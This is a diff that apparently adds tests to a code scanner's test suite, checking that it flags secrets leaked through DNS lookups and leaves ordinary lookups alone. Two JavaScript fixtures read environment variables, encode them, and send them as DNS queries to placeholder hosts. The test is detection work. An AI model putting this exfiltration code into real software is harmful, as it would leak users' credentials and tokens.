@@ -196,3 +196,39 @@ def test_a_hostile_here_document_stays_bounded() -> None:
     start = time.perf_counter()
     scan(code[:1_000_000])
     assert time.perf_counter() - start < 10
+
+
+# --- JavaScript: secrets carried out in DNS names ---------------------------------------------
+
+DNS_LEAKS = {
+    "promises-lookup-template": (
+        "import { lookup } from 'node:dns/promises';\n"
+        "const picked = Object.keys(process.env).filter((n) => /api|pass/i.test(n))\n"
+        "  .map((n) => process.env[n]).join(',');\n"
+        "const enc = Buffer.from(picked).toString('base64url');\n"
+        "for (const part of enc.match(/.{1,50}/g) || []) await lookup(`${part}.t.example.org`);\n"
+    ),
+    "resolve-txt-concatenation": (
+        "const dns = require('dns');\n"
+        "const dump = JSON.stringify(process.env);\n"
+        "dns.resolveTxt(Buffer.from(dump).toString('hex').slice(0, 60) + '.q.example.net',"
+        " () => {});\n"
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(DNS_LEAKS))
+def test_the_environment_resolved_as_dns_names_is_exfiltration(case: str) -> None:
+    report = scan(DNS_LEAKS[case], name="scripts/a.mjs")
+    assert worst(report, "secrets.exfiltration") == "critical", shown(report)
+
+
+def test_an_ordinary_dns_lookup_is_not_network_exfiltration() -> None:
+    code = (
+        "const dns = require('dns');\nconst host = process.argv[2] || 'localhost';\n"
+        "dns.lookup(host, (err, address) => console.log(address));\n"
+        "console.log(Object.keys(process.env).length);\n"
+    )
+    report = scan(code)
+    loud = [f for f in report.findings if severity_rank(f.severity) >= severity_rank("medium")]
+    assert not loud, shown(report)
